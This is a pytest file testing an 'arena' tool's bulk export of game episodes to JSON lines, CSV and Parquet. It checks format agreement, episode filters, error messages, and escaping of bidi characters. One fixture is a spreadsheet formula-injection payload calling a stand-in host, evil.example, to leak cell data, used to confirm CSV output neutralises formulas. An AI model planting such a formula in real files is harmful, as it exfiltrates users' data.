"""``arena export`` of many episodes as rows: the formats agree, selections hold what they name."""

from __future__ import annotations

import csv
import json
import re
import sqlite3
import sys
from pathlib import Path
from typing import Any

import pytest

from arena.cli.main import main
from arena.engine import bulk_export, json_patch
from arena.engine.export_formats import read_rows, spreadsheet_text
from arena.store.database import Store
from tests.support.episodes import stored_turns

EXPORT_DOC = Path(__file__).parents[2] / "docs" / "export.md"
TRICKY_REASON = 'a, "quoted"\nsecond line \u202e and ; commas'
FORMULA_REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def arena(capsys: pytest.CaptureFixture[str], db: Path, *argv: str) -> tuple[int, str, str]:
    code = main(["--db", str(db), *argv])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture(scope="module")
def played(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bargain tournament (tournament 1), a lemonade episode and a 3-seat Cattle Trade episode."""
    db = tmp_path_factory.mktemp("export") / "arena.db"
    tournament = [
        "tournament",
        "run",
        "bargain",
        "--player",
        "baseline:honest",
        "--player",
        "baseline:bluffing",
    ]
    assert main(["--db", str(db), *tournament, "--seeds", "2"]) == 0
    lemonade = ["play", "lemonade", "--seat", "a=baseline:weather", "--seat", "b=baseline:cost-plus"]
    assert main(["--db", str(db), *lemonade, "--option", "days=4", "--quiet"]) == 0
    cattle = ["play", "cattle", "--option", "players=3", *(f"--seat=p{i}=baseline:random" for i in (1, 2, 3))]
    assert main(["--db", str(db), *cattle, "--seed", "3", "--quiet"]) == 0
    store = Store(db)
    try:
        # A reason CSV must quote (comma, quotes, newline) and JSON must escape (a bidi override).
        lemonade_id = store.conn.execute("SELECT id FROM episodes WHERE game = 'lemonade'").fetchone()[0]
        store.conn.execute(
            "UPDATE turns SET reason = ?, reason_in_action = 0 WHERE episode_id = ? AND idx = 1",
            (TRICKY_REASON, lemonade_id),
        )
        store.conn.execute(  # a reason a spreadsheet would run as a formula
            "UPDATE turns SET reason = ?, reason_in_action = 0 WHERE episode_id = ? AND idx = 2",
            (FORMULA_REASON, lemonade_id),
        )
    finally:
        store.close()
    return db


def exported(capsys: pytest.CaptureFixture[str], db: Path, path: Path, *argv: str) -> list[dict[str, Any]]:
    code, _, err = arena(capsys, db, "export", *argv, "--output", str(path))
    assert code == 0, err
    assert re.search(r"arena: wrote [\d,]+ \w+ rows of [\d,]+ episodes? to ", err)
    rows = "seats" if "seats" in argv else "turns"
    observations = argv[argv.index("--observations") + 1] if "--observations" in argv else "none"
    return list(read_rows(path, path.suffix[1:], bulk_export.columns(rows, observations)))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "argv",
    [(), ("--rows", "seats"), ("--observations", "changes"), ("--game", "cattle", "--observations", "full")],
    ids=["turns", "seats", "changes", "full"],
)
def test_csv_and_parquet_read_back_equal_the_json_lines(
    capsys: pytest.CaptureFixture[str], played: Path, tmp_path: Path, argv: tuple[str, ...]
) -> None:
    lines = exported(capsys, played, tmp_path / "rows.jsonl", *argv)
    csv_rows = exported(capsys, played, tmp_path / "rows.csv", *argv)
    parquet_rows = exported(capsys, played, tmp_path / "rows.parquet", *argv)
    assert lines, "nothing exported"
    assert csv_rows == [as_csv_shows(row) for row in lines]
    assert parquet_rows == lines
    names = [c.name for c in bulk_export.columns("seats" if "seats" in argv else "turns", "none")]
    assert list(lines[0])[: len(names)] == names
    assert {row["schema_version"] for row in lines} == {bulk_export.SCHEMA_VERSION}
    if not argv:
        assert TRICKY_REASON in {row["reason"] for row in lines}
        # Every column kind is exercised with real values, nulls included.
        assert any(row["tournament_id"] is None for row in lines)
        assert all(isinstance(row["valid"], bool) and isinstance(row["state"], dict) for row in lines)


def as_csv_shows(value: Any) -> Any:
    """``value`` with every string's control and bidi characters as the CSV writes them."""
    if isinstance(value, str):
        return spreadsheet_text(value, formula=False)
    if isinstance(value, dict):
        return {key: as_csv_shows(item) for key, item in value.items()}
    if isinstance(value, list):
        return [as_csv_shows(item) for item in value]
    return value


def test_csv_cells_are_inert_in_a_spreadsheet_and_read_back_as_written(
    capsys: pytest.CaptureFixture[str], played: Path, tmp_path: Path
) -> None:
    target = tmp_path / "rows.csv"
    rows = exported(capsys, played, target, "--game", "lemonade")
    with target.open(newline="") as cells:
        reasons = [row["reason"] for row in csv.DictReader(cells)]
    assert "'" + FORMULA_REASON in reasons, "a formula is text in a spreadsheet"
    assert not any(reason.startswith(("=", "+", "-", "@", "\t", "\r")) for reason in reasons)
    assert 'a, "quoted"\nsecond line <U+202E> and ; commas' in reasons, "bidi shown as an escape"
    assert "\u202e" not in target.read_text()
    assert FORMULA_REASON in {row["reason"] for row in rows}, "the reader removes the quote it added"


def test_json_lines_escape_invisible_characters_but_decode_to_them(
    capsys: pytest.CaptureFixture[str], played: Path
) -> None:
    code, out, _ = arena(capsys, played, "export", "--game", "lemonade")
    assert code == 0
    assert "\u202e" not in out and "\\u202e" in out
    reasons = [json.loads(line)["reason"] for line in out.splitlines()]
    assert TRICKY_REASON in reasons


def test_turn_rows_match_the_stored_turns(
    capsys: pytest.CaptureFixture[str], played: Path, tmp_path: Path
) -> None:
    rows = exported(capsys, played, tmp_path / "all.jsonl")
    store = Store(played)
    try:
        ids = [row[0] for row in store.conn.execute("SELECT id FROM episodes ORDER BY id")]
        expected = [
            (i, t["idx"], t["seat"], t["action"], t["state"]) for i in ids for t in stored_turns(store, i)
        ]
    finally:
        store.close()
    assert [(r["episode_id"], r["idx"], r["seat"], r["action"], r["state"]) for r in rows] == expected


def test_a_tournament_exports_its_episodes_and_no_other(
    capsys: pytest.CaptureFixture[str], played: Path, tmp_path: Path
) -> None:
    rows = exported(capsys, played, tmp_path / "t.csv", "--tournament", "1", "--rows", "seats")
    store = Store(played)
    try:
        episodes = store.conn.execute(
            "SELECT id FROM episodes WHERE tournament_id = 1 ORDER BY id"
        ).fetchall()
        seats = {(i, s["seat"]): s for (i,) in episodes for s in store.seats(i)}
    finally:
        store.close()
    assert len(episodes) == 4  # one pair of players in both seatings on 2 deals
    assert {(r["episode_id"], r["seat"]) for r in rows} == set(seats)
    assert len(rows) == len(seats)
    for row in rows:
        seat = seats[(row["episode_id"], row["seat"])]
        assert (row["player"], row["score"], row["metrics"]) == (
            seat["player"],
            seat["score"],
            seat["metrics"],
        )
        assert row["game"] == "bargain" and row["tournament_id"] == 1


def test_observation_changes_write_each_observation_once_and_rebuild_it(
    capsys: pytest.CaptureFixture[str], played: Path, tmp_path: Path
) -> None:
    changes = exported(capsys, played, tmp_path / "c.jsonl", "--game", "cattle", "--observations", "changes")
    store = Store(played)
    try:
        (cattle,) = store.conn.execute("SELECT id FROM episodes WHERE game = 'cattle'").fetchone()
        turns = stored_turns(store, cattle)
    finally:
        store.close()
    seen: dict[str, Any] = {}
    for row, turn in zip(changes, turns, strict=True):
        seen[row["seat"]] = json_patch.apply(seen.get(row["seat"], {}), row["observation_changes"])
        assert seen[row["seat"]] == turn["observation"]
    exported(capsys, played, tmp_path / "full.jsonl", "--game", "cattle", "--observations", "full")
    exported(capsys, played, tmp_path / "none.jsonl", "--game", "cattle")
    sizes = {name: (tmp_path / f"{name}.jsonl").stat().st_size for name in ("c", "full", "none")}
    # The whole history in every observation grows with the square of the episode's length.
    assert sizes["c"] * 4 < sizes["full"]
    assert sizes["none"] < sizes["c"]


def test_filters_and_limit_pick_the_newest_written_oldest_first(
    capsys: pytest.CaptureFixture[str], played: Path, tmp_path: Path
) -> None:
    rows = exported(
        capsys, played, tmp_path / "b.jsonl", "--game", "bargain", "--limit", "3", "--rows", "seats"
    )
    assert sorted({r["episode_id"] for r in rows}) == [2, 3, 4]
    assert [r["episode_id"] for r in rows] == sorted(r["episode_id"] for r in rows)
    some = exported(capsys, played, tmp_path / "ids.jsonl", "2", "6", "--rows", "seats")
    assert sorted({r["episode_id"] for r in some}) == [2, 6]
    honest = exported(capsys, played, tmp_path / "p.jsonl", "--player", "weather", "--rows", "seats")
    assert {r["game"] for r in honest} == {"lemonade"}


def test_progress_is_reported_on_stderr(
    capsys: pytest.CaptureFixture[str], played: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("arena.cli.export_rows.PROGRESS_SECONDS", 0.0)
    code, _, err = arena(capsys, played, "export", "--tournament", "1", "--output", str(tmp_path / "x.jsonl"))
    assert code == 0
    assert "arena: exported 4/4 episodes (" in err


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (("--tournament", "77"), "arena: error: no tournament 77 in "),
        (("--game", "paperclip"), "arena: error: no episodes match game paperclip in "),
        (("5", "404"), "arena: error: no episode 404 in "),
        (("--format", "parquet"), "arena: error: Parquet is a binary file: give --output FILE.parquet"),
        (
            ("--rows", "seats", "--observations", "full"),
            "arena: error: --observations goes with --rows turns",
        ),
        (("--output", "rows.xlsx"), "arena: error: cannot tell the format from 'rows.xlsx'"),
        (("--output", "/no/such/folder/rows.csv"), "arena: error: no folder /no/such/folder for --output"),
        (("--limit", "0"), "arena: error: --limit must be at least 1"),
    ],
)
def test_export_errors_are_one_line(
    capsys: pytest.CaptureFixture[str], played: Path, argv: tuple[str, ...], message: str
) -> None:
    code, out, err = arena(capsys, played, "export", *argv)
    assert code != 0 and out == ""
    assert err.startswith(message) and err.count("\n") == 1


def test_an_empty_database_says_so(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    Store(tmp_path / "empty.db").close()
    code, out, err = arena(capsys, tmp_path / "empty.db", "export")
    assert (code, out) == (1, "")
    assert err == f"arena: error: no episodes in {tmp_path / 'empty.db'} yet\n"


def test_parquet_without_pyarrow_says_how_to_get_it(
    capsys: pytest.CaptureFixture[str], played: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # what an import finds when it is not installed
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    target = tmp_path / "rows.parquet"
    code, _, err = arena(capsys, played, "export", "--output", str(target))
    assert code == 1
    assert (
        err == "arena: error: Parquet needs pyarrow: pip install 'arena[parquet]' (or pip install pyarrow)\n"
    )
    assert not target.exists() and list(tmp_path.iterdir()) == []


def test_a_failed_export_leaves_no_file(
    capsys: pytest.CaptureFixture[str], played: Path, tmp_path: Path
) -> None:
    copy = tmp_path / "copy.db"
    with sqlite3.connect(played) as source, sqlite3.connect(copy) as target_db:
        source.backup(target_db)
    store = Store(copy)
    try:  # an action no JSON reader can decode, in the last episode: the export stops there
        store.conn.execute("UPDATE turns SET action = 'not json' WHERE episode_id = 6 AND idx = 0")
    finally:
        store.close()
    out = tmp_path / "out"
    out.mkdir()
    code, _, err = arena(capsys, copy, "export", "--output", str(out / "rows.csv"))
    assert code == 1 and err.startswith("arena: error: ")
    assert list(out.iterdir()) == []


def test_the_export_page_lists_every_column_with_its_type_and_the_schema_version() -> None:
    page = EXPORT_DOC.read_text()
    section = page[page.index("## Export columns") :]
    section = section[: section.index("\n## ")]
    assert f"`schema_version` {bulk_export.SCHEMA_VERSION};" in section
    every = {*bulk_export.TURN_COLUMNS, *bulk_export.SEAT_COLUMNS, *bulk_export.OBSERVATION_COLUMNS.values()}
    missing = [
        c.name for c in every if f"| {c.name} | {c.kind}{', null' if c.nullable else ''} | " not in section
    ]
    assert not missing
